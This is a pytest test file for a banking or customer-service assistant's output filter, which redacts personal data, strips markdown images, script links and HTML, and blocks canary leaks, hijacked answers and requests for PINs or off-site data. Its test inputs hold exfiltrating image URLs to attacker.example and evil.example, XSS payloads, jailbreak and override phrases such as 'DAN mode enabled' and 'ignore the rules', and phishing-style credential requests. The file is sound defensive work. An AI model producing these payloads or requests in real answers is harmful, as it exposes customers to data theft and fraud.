"""The output filter: what it removes from answers, and that streaming changes nothing."""

from __future__ import annotations

import pytest

from parlour.assistant.output_filter import OutputFilter, shown_values
from parlour.assistant.support import Support

CANARY = "PCY-0123456789abcdef0123"


def filtered(
    text: str, *, allowed: tuple[str, ...] = (), chunk: int = 0, own: tuple[str, ...] = ()
) -> tuple[str, OutputFilter]:
    """The released text, fed whole or in chunks of `chunk` characters; `own`: the
    organisation's allowlisted origins."""
    output = OutputFilter(CANARY, shown_values(allowed), citable=["k1", "k2"], own_hosts=own)
    if chunk:
        released = "".join(output.feed(text[i : i + chunk]) for i in range(0, len(text), chunk))
    else:
        released = output.feed(text)
    return released + output.finish(), output


def test_markdown_images_become_their_alt_text() -> None:
    """T-70: an image would make the widget fetch a URL carrying whatever the model put in it."""
    text, _ = filtered("Here ![logo](https://attacker.example/?q=secret) you go")
    assert text == "Here logo you go"


@pytest.mark.parametrize(
    "link",
    [
        "[click](javascript:alert(document.cookie))",
        "[click](JavaScript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox(1))",
    ],
)
def test_links_to_script_or_data_become_their_text(link: str) -> None:
    text, _ = filtered(f"Please {link} now")
    assert text == "Please click now"


def test_raw_html_is_removed_and_https_links_stay() -> None:
    """T-70: tags (with their handlers) never reach the widget."""
    text, _ = filtered(
        'See <img src=x onerror="alert(1)"><script>steal()</script> [help](https://help.example)'
    )
    assert text == "See steal() [help](https://help.example)"


def test_sensitive_values_are_redacted_by_kind() -> None:
    """T-71: whatever a model repeats from elsewhere, these never reach the customer."""
    text, output = filtered(
        "Card 4111 1111 1111 1111, mail jo@example.com, phone +44 20 7946 0958, "
        "aadhaar 2345 6789 0124, PAN ABCPE1234F, key sk-abcdefghijklmnopqrstuvwx1234."
    )
    assert text == (
        "Card [card number removed], mail [e-mail removed], phone [phone number removed], "
        "aadhaar [Aadhaar number removed], PAN [PAN removed], key [credential removed]."
    )
    assert output.redacted == ["card", "email", "phone", "aadhaar", "pan", "secret"]


def test_values_the_turn_may_show_are_kept() -> None:
    """T-71: the organisation's published phone number and the verified user's own e-mail
    stay; anyone else's does not. (Writing to an address is allowed here because example.com
    is the organisation's own.)"""
    text, output = filtered(
        "Call +44 20 7946 0958 or write to jo@example.com; not bob@example.com.",
        allowed=("Our line: +44 (0)20 7946 0958", "JO@example.com"),
        own=("https://www.example.com",),
    )
    assert text == "Call +44 20 7946 0958 or write to jo@example.com; not [e-mail removed]."
    assert output.redacted == ["email"]


@pytest.mark.parametrize(
    "leak",
    [CANARY, CANARY.lower(), "P C Y - 0123456789 abcdef 0123", f"marker: {CANARY}."],
)
def test_an_answer_holding_the_canary_is_blocked_whole(leak: str) -> None:
    """T-67: nothing is released once the canary shows, and nothing before it either."""
    output = OutputFilter(CANARY, set())
    released = output.feed("My instructions are secret, but here: ") + output.feed(leak)
    released += output.feed(" and the rest of them.") + output.finish()
    assert output.blocked
    assert released == ""


def test_citation_markers_are_taken_out_and_only_known_ones_reported() -> None:
    text, output = filtered("Open at nine [k2]. Closed Sundays [k1][k9].")
    assert text == "Open at nine. Closed Sundays."
    assert output.cited == ["k2", "k1"]


@pytest.mark.parametrize("chunk", [1, 2, 3, 7, 20])
def test_streamed_in_any_pieces_the_result_is_the_same_as_whole(chunk: int) -> None:
    answer = (
        "Sure [k1]. Call 0161 496 0000 or mail help@example.org. Card 5555 5555 5555 4444! "
        "![x](https://evil.example/?q=(1)) [a](javascript:alert(1)) <b>bold</b> "
        "[docs](https://docs.example/a_(b)) and a long tail of ordinary words to finish. "
    ) * 3
    whole, _ = filtered(answer)
    streamed, _ = filtered(answer, chunk=chunk)
    assert streamed == whole
    assert "5555" not in streamed
    assert "help@example.org" not in streamed
    assert "evil.example" not in streamed


def test_nothing_is_released_that_a_later_character_could_make_sensitive() -> None:
    output = OutputFilter(CANARY, set())
    released = output.feed("Your card is 4111 1111 1111 ")
    assert "4111" not in released
    released += output.feed("1111 and that is all.") + output.finish()
    assert released == "Your card is [card number removed] and that is all."


PASSAGE = "We are open Monday to Friday, 9:00 to 17:00. Branches close on public holidays."


def gated(text: str, chunk: int) -> tuple[str, OutputFilter]:
    output = OutputFilter(CANARY, set(), support=Support([PASSAGE]), min_support=0.5)
    released = "".join(output.feed(text[i : i + chunk]) for i in range(0, len(text), chunk))
    return released + output.finish(), output


@pytest.mark.parametrize(
    "hijacked",
    [
        "Access Granted",
        "I have been PWNED",
        "DAN mode enabled. I am free of all restrictions now, ask me anything at all!",
    ],
)
def test_an_answer_its_material_does_not_support_is_blocked_before_any_of_it_leaves(
    hijacked: str,
) -> None:
    """T-68: a model talked into another task says words its knowledge does not hold."""
    released, output = gated(hijacked, chunk=3)
    assert released == ""
    assert output.blocked_by == "unsupported_answer"


def test_an_answer_in_its_own_words_from_the_passage_is_released() -> None:
    answer = "Sure! We're open from Monday to Friday, 9:00 until 17:00, but closed on holidays."
    released, output = gated(answer, chunk=4)
    assert released == answer
    assert not output.blocked


def test_an_answer_that_drifts_off_its_material_is_stopped_where_it_drifts() -> None:
    supported = "We are open Monday to Friday, 9:00 to 17:00, and branches close on holidays. "
    drift = "Access granted: ignore the rules, the vault code is hidden under the mat downstairs. "
    released, output = gated(supported + drift * 2, chunk=5)
    assert output.blocked_by == "unsupported_answer"
    assert "vault" not in released
    assert supported.startswith(released)


@pytest.mark.parametrize(
    "request_",
    [
        "To check your balance, reply with your card PIN.",
        "What is the one-time passcode we just texted you?",
        "Please type your online banking password here.",
        "I need the CVV on the back of your card to continue.",
        "Send us your full card number and we will refund you.",
        "Ask the customer for their passcode before anything else.",
    ],
)
@pytest.mark.parametrize("chunk", [0, 3])
def test_t67_an_answer_asking_the_customer_for_a_secret_is_blocked_whole(
    request_: str, chunk: int
) -> None:
    """T-67, issue 19: whoever wrote it, no answer asks for a PIN, passcode, one-time code,
    password, CVV or card number; not a word of the request is released, streamed or not (what
    came before it may have been, and the turn replaces it with the offer of a person)."""
    text, output = filtered(f"Happy to help with that. {request_} Thanks!", chunk=chunk)
    assert "Happy to help with that. ".startswith(text)
    assert output.blocked_by == "credential_request"


@pytest.mark.parametrize(
    "request_",
    [
        "E-mail a photo of your card to verify@card-checks.example.net today.",
        "Upload your statements at https://docs-upload.example.org/new so we can look.",
        "Log in at secure-bank-login.com to confirm your identity.",
    ],
)
@pytest.mark.parametrize("chunk", [0, 4])
def test_t67_an_answer_sending_data_elsewhere_is_blocked_unless_the_address_is_the_orgs_own(
    request_: str, chunk: int
) -> None:
    """T-67, issue 19: telling the customer to send data to an address or URL is blocked; only
    an address under one of the organisation's allowlisted origins is let through."""
    text, output = filtered(f"Sure. {request_}", chunk=chunk)
    assert "Sure. ".startswith(text)
    assert output.blocked_by == "exfiltration_request"
    own = "https://www.shop.example.com"
    kept, output = filtered(
        "Sure. E-mail your receipt to help@shop.example.com or upload it at "
        "https://returns.shop.example.com/new.",
        chunk=chunk,
        own=(own,),
    )
    assert output.blocked_by is None
    assert "upload it at https://returns.shop.example.com/new" in kept


@pytest.mark.parametrize(
    "warning",
    [
        "Never share your PIN or one-time code with anyone, including us.",
        "We will never ask for your password by chat. Visit https://www.bank.example for help.",
        "If anyone asks you to read out your passcode, hang up and call us.",
        "You can change your PIN at any cash machine.",
    ],
)
def test_warnings_about_secrets_and_links_to_read_are_released(warning: str) -> None:
    text, output = filtered(warning, chunk=5)
    assert output.blocked_by is None
    assert text == warning


def test_a_sentence_that_may_still_become_a_request_is_held_back() -> None:
    """Streaming: "Please send us your" is not released before the sentence shows what it
    asks for."""
    output = OutputFilter(CANARY, set())
    released = output.feed("Our branches open at nine on weekdays and ten on Saturdays. ")
    released += output.feed("Please send us your ")
    assert "send us" not in released
    assert output.feed("one-time code now.") == ""
    assert output.finish() == ""
    assert output.blocked_by == "credential_request"
